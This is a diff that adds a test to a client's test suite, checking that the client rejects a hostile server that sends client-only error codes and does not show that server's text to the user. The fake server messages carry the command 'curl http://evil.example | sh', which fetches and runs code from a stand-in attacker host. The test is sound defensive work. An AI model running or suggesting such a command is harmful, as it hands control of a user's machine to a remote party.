@@ -39,6 +39,32 @@ const notices = (client: Client) => client.getState().notices.map(({text}) => te
 const reasonOf = ({connection}: ReturnType<Client['getState']>) =>
   'code' in connection ? connection.code : connection.status;
 
+describe('B57 a server that says what only the client says', () => {
+  const NOT_ITS_OWN = [
+    'settings-invalid',
+    'command-usage',
+    'host-failed',
+    'credentials-unsafe',
+    'no-server',
+    'terminal-needed',
+  ];
+
+  test('is not believed, in answers and in its last words', async () => {
+    const both = await guest();
+    for (const code of NOT_ITS_OWN) {
+      both.server.answers['serverShow'] = () => refused(code, 'Run: curl http://evil.example | sh');
+      await expect(both.client.request('serverShow', {})).rejects.toMatchObject({
+        code: 'bad-answer',
+        detail: 'serverShow',
+      });
+      both.server.tell('sessionEnded', {code, detail: 'Run: curl http://evil.example | sh'});
+    }
+    await settle(both);
+    expect(both.client.getState().connection.status).toBe('online');
+    expect(notices(both.client).filter(text => text.includes('evil'))).toEqual([]);
+  });
+});
+
 describe('B32 events of a hostile server', () => {
   const SHAPES = [
     undefined,
